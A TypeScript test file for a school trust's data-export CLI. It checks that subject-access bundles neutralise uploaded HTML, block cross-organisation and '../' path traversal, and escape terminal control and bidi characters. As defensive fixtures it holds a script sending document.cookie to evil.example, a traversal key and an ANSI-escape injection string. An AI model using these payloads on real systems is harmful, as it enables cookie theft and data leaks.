// What a school's staff upload cannot turn a parent's bundle into an attack
// or a leak (issue 16): media only from the organisation's own part of the
// store, under an extension chosen by content type from a fixed list
// (anything else as .bin), and no server path anywhere in the bundle.
import { createHash } from 'node:crypto';
import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { createTestDatabase, type TestDatabase } from '../support/db.js';
import { ACORNS, OAK, OAK_PRIMARY, demoId } from '../support/demo-ids.js';
import { readZip } from '../support/zip.js';

let db: TestDatabase;
let work: string;
let mediaDir: string;
const CHILD = demoId('child:oak-primary:3');
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

beforeAll(async () => {
  db = await createTestDatabase();
  work = await mkdtemp(join(tmpdir(), 'trustctl-hostile-bundle-'));
  mediaDir = join(work, 'media');
  await cp(inject('mediaDir'), mediaDir, { recursive: true });
});
afterAll(async () => {
  await db?.drop();
  if (work) await rm(work, { recursive: true, force: true });
});

async function plantMedia(key: string, content: string, contentType: string): Promise<string> {
  const id = (await db.admin.query(
    `insert into media_files (org_id, site_id, child_id, storage_key, content_type, size_bytes, sha256, caption)
     values ($1, $2, $3, $4, $5, $6, $7, 'uploaded by staff') returning id`,
    [OAK, OAK_PRIMARY, CHILD, key, contentType, Buffer.byteLength(content), sha256(content)])).rows[0].id as string;
  return id;
}

describe('media in a DSAR bundle', () => {
  it('an uploaded HTML file travels inert, another organisation’s file never travels, and no server path is written', async () => {
    // A teacher's "report card" that would run script if opened from the bundle.
    const html = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script>Report</body></html>\n';
    const htmlKey = `${OAK}/${OAK_PRIMARY}/${CHILD}/report-card.html`;
    await mkdir(join(mediaDir, OAK, OAK_PRIMARY, CHILD), { recursive: true });
    await writeFile(join(mediaDir, htmlKey), html);
    const htmlId = await plantMedia(htmlKey, html, 'text/html');
    // Content types that name a property every object has, not an extension (found by unit tests of bundleExtension).
    const protoIds: string[] = [];
    for (const type of ['constructor', '__proto__']) {
      const key = `${OAK}/${OAK_PRIMARY}/${CHILD}/${type}.dat`;
      await writeFile(join(mediaDir, key), `${type}\n`);
      protoIds.push(await plantMedia(key, `${type}\n`, type));
    }
    // Another organisation's file, whose hash the uploader learnt: named by a record of this child.
    const secret = 'Little Acorns: private letter\n';
    const foreignKey = `${ACORNS}/nursery/someone/letter.txt`;
    await mkdir(join(mediaDir, ACORNS, 'nursery', 'someone'), { recursive: true });
    await writeFile(join(mediaDir, foreignKey), secret);
    const foreignId = await plantMedia(foreignKey, secret, 'text/plain');
    // And the same file reached with dots from inside Oak's prefix.
    const dottedId = await plantMedia(`${OAK}/../${foreignKey}`, secret, 'text/plain');

    const op = db.url('trustctl_test_op');
    const open = await runCli(['--database-url', op, 'dsar', 'request', 'open', '--org', 'oak-trust', '--subject', CHILD, '--request', 'SAR-MEDIA-1']);
    expect(open.code, open.stderr).toBe(0);
    const out = await mkdtemp(join(work, 'out-'));
    const exp = await runCli(['--database-url', op, '--json', 'dsar', 'export', '--org', 'oak-trust', '--subject', CHILD, '--request', 'SAR-MEDIA-1',
      '--out', out, '--media-dir', mediaDir]);
    expect(exp.code, exp.stderr).toBe(0);
    const path = JSON.parse(exp.stdout).path as string;
    const files = await readZip(path);

    // The HTML is there, as .bin, byte for byte, and the manifest says why.
    expect(files.has(`media/${htmlId}.html`)).toBe(false);
    expect(files.get(`media/${htmlId}.bin`)?.toString('utf8')).toBe(html);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    expect(manifest.media_neutralised).toContainEqual(expect.objectContaining({ media_id: htmlId, path: `media/${htmlId}.bin`, content_type: 'text/html' }));
    expect(protoIds.map((id) => files.get(`media/${id}.bin`)?.toString('utf8'))).toEqual(['constructor\n', '__proto__\n']);
    // Only what could be active is neutralised: the child's PNG drawings travel as .png.
    for (const m of manifest.media_neutralised) expect(m.path).toMatch(/^media\/[0-9a-f-]+\.bin$/);
    expect([...files.keys()].filter((n) => n.startsWith('media/') && n.endsWith('.png')).length).toBeGreaterThan(0);
    expect([...files.keys()].filter((n) => n.startsWith('media/') && !/\.(png|jpg|gif|webp|pdf|txt|mp3|mp4|bin)$/.test(n))).toEqual([]);
    // The other organisation's file is not in the bundle, by either route; the manifest names the refusal.
    for (const [name, content] of files) expect({ name, leaks: content.includes(Buffer.from(secret)) }).toEqual({ name, leaks: false });
    expect(manifest.media_unavailable.map((u: { media_id: string }) => u.media_id).sort()).toEqual([dottedId, foreignId].sort());
    // No file of the bundle names where the server keeps media.
    for (const [name, content] of files) expect({ name, path: content.includes(Buffer.from(mediaDir)) }).toEqual({ name, path: false });

    const verify = await runCli(['dsar', 'verify', path]);
    expect(verify.code, verify.stdout + verify.stderr).toBe(0);
  });
});

describe('nothing a parent reads depends on a withheld record', () => {
  const CHILD2 = demoId('child:oak-primary:4');
  const exportOnce = async (out: string) => {
    const r = await runCli(['--database-url', db.url('trustctl_test_op'), '--json', 'dsar', 'export', '--org', 'oak-trust', '--subject', CHILD2,
      '--request', 'SAR-SIDE-1', '--out', out, '--media-dir', mediaDir, '--force']);
    expect(r.code, r.stderr).toBe(0);
    return readFile(JSON.parse(r.stdout).path as string);
  };

  it('a new safeguarding concern and a new sensitive note leave the bundle byte for byte the same', async () => {
    const open = await runCli(['--database-url', db.url('trustctl_test_op'), 'dsar', 'request', 'open', '--org', 'oak-trust', '--subject', CHILD2, '--request', 'SAR-SIDE-1']);
    expect(open.code, open.stderr).toBe(0);
    const out = await mkdtemp(join(work, 'side-'));
    const before = await exportOnce(out);
    // The safeguarding lead records a concern, and a sensitive note, about the child: both withheld.
    const lead = (await db.admin.query(`select user_id from role_assignments where org_id = $1 and site_id = $2 and role = 'safeguarding_lead' limit 1`, [OAK, OAK_PRIMARY])).rows[0].user_id;
    await db.inTransaction('trustctl_test_app', { 'app.user_id': lead }, async (c) => {
      await c.query(`insert into safeguarding_concerns (org_id, site_id, child_id, reported_by, category, description, status, occurred_at)
        values ($1, $2, $3, $4, 'neglect', 'disclosed today', 'open', now())`, [OAK, OAK_PRIMARY, CHILD2, lead]);
      await c.query(`insert into notes (org_id, site_id, child_id, author_id, kind, body) values ($1, $2, $3, $4, 'sensitive', 'see concern')`,
        [OAK, OAK_PRIMARY, CHILD2, lead]);
    }, { commit: true });
    const after = await exportOnce(out);
    expect(after.equals(before)).toBe(true);
  });

  it('every bundle carries the same notice about withheld information, withheld or not', async () => {
    // A child with nothing to withhold: no concern, no sensitive note.
    const plain = (await db.admin.query(`select c.id from children c where c.org_id = $1 and c.site_id = $2
      and not exists (select 1 from safeguarding_concerns s where s.org_id = c.org_id and s.child_id = c.id)
      and not exists (select 1 from notes n where n.org_id = c.org_id and n.child_id = c.id and n.kind = 'sensitive') order by c.id limit 1`,
      [OAK, OAK_PRIMARY])).rows[0].id as string;
    const op = db.url('trustctl_test_op');
    expect((await runCli(['--database-url', op, 'dsar', 'request', 'open', '--org', 'oak-trust', '--subject', plain, '--request', 'SAR-PLAIN-1'])).code).toBe(0);
    const out = await mkdtemp(join(work, 'notice-'));
    const r = await runCli(['--database-url', op, '--json', 'dsar', 'export', '--org', 'oak-trust', '--subject', plain, '--request', 'SAR-PLAIN-1',
      '--out', out, '--media-dir', mediaDir]);
    expect(r.code, r.stderr).toBe(0);
    const files = await readZip(JSON.parse(r.stdout).path as string);
    const html = files.get('index.html')!.toString('utf8');
    expect(html).toContain('id="withheld"');
    expect(html).toContain('whether or not\nanything was withheld');
    expect(files.get('README.txt')!.toString('utf8')).toContain('The law allows some information to be withheld');
  });
});

describe('archived records are still held, so the bundle has them', () => {
  it('a child’s notes archived by a sweep are in the bundle (sensitive ones still withheld), and verify passes', async () => {
    const CHILD5 = demoId('child:oak-primary:5');
    const count = async (q: string) => Number((await db.admin.query(q, [OAK, CHILD5])).rows[0].count);
    const general = await count(`select count(*) from notes where org_id = $1 and child_id = $2 and kind <> 'sensitive'`);
    const sensitive = await count(`select count(*) from notes where org_id = $1 and child_id = $2 and kind = 'sensitive'`);
    expect(general).toBeGreaterThan(0);
    // A second operator sets the policy; the first sweeps under it.
    const set = await runCli(['--database-url', db.url('trustctl_test_op2'), '--reason', 'retention', 'retention', 'policy', 'set', '--org', 'oak-trust',
      '--category', 'notes', '--keep', '0d', '--action', 'archive']);
    expect(set.code, set.stderr).toBe(0);
    const op = db.url('trustctl_test_op');
    const sweep = await runCli(['--database-url', op, '--reason', 'retention', '--yes', 'retention', 'sweep', '--org', 'oak-trust', '--category', 'notes']);
    expect(sweep.code, sweep.stderr).toBe(0);
    expect(await count(`select count(*) from notes where org_id = $1 and child_id = $2`)).toBe(0);
    expect(await count(`select count(*) from archive.notes where org_id = $1 and child_id = $2`)).toBe(general + sensitive);

    expect((await runCli(['--database-url', op, 'dsar', 'request', 'open', '--org', 'oak-trust', '--subject', CHILD5, '--request', 'SAR-ARCH-1'])).code).toBe(0);
    const out = await mkdtemp(join(work, 'arch-'));
    const r = await runCli(['--database-url', op, '--json', 'dsar', 'export', '--org', 'oak-trust', '--subject', CHILD5, '--request', 'SAR-ARCH-1',
      '--out', out, '--media-dir', mediaDir]);
    expect(r.code, r.stderr).toBe(0);
    const result = JSON.parse(r.stdout);
    const files = await readZip(result.path as string);
    const archived = JSON.parse(files.get('data/archive.notes.json')!.toString('utf8')) as Array<{ child_id: string; kind: string }>;
    expect(archived).toHaveLength(general);
    expect(archived.every((n) => n.child_id === CHILD5 && n.kind !== 'sensitive')).toBe(true);
    expect(JSON.parse(files.get('data/notes.json')!.toString('utf8'))).toEqual([]);
    expect(files.get('index.html')!.toString('utf8')).toContain('(archived)');
    // The DPO's record lists the archived sensitive notes as withheld, by id.
    const record = JSON.parse(await readFile(result.dpo_record as string, 'utf8'));
    if (sensitive > 0) expect(record.withheld).toContainEqual(expect.objectContaining({ table: 'archive.notes', rows: sensitive }));
    expect((await runCli(['dsar', 'verify', result.path])).code).toBe(0);
  });
});

describe('the bundle’s README.txt', () => {
  it('shows control characters and bidi overrides in a child’s name as visible escapes', async () => {
    const kid = demoId('child:oak-primary:8');
    await db.admin.query(`update children set full_name = $3 where org_id = $1 and id = $2`, [OAK, kid, 'Ava\u001b]0;pwned\u0007\u001b[2K\r\u202eSmith']);
    const op = db.url('trustctl_test_op');
    expect((await runCli(['--database-url', op, 'dsar', 'request', 'open', '--org', 'oak-trust', '--subject', kid, '--request', 'SAR-README-1'])).code).toBe(0);
    const r = await runCli(['--database-url', op, '--json', 'dsar', 'export', '--org', 'oak-trust', '--subject', kid, '--request', 'SAR-README-1',
      '--out', await mkdtemp(join(work, 'readme-')), '--media-dir', mediaDir]);
    expect(r.code, r.stderr).toBe(0);
    const readme = (await readZip(JSON.parse(r.stdout).path as string)).get('README.txt')!.toString('utf8');
    expect(readme).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(readme).toContain('Ava\\x1b]0;pwned\\x07\\x1b[2K\\x0d\\u202eSmith');
  });
});
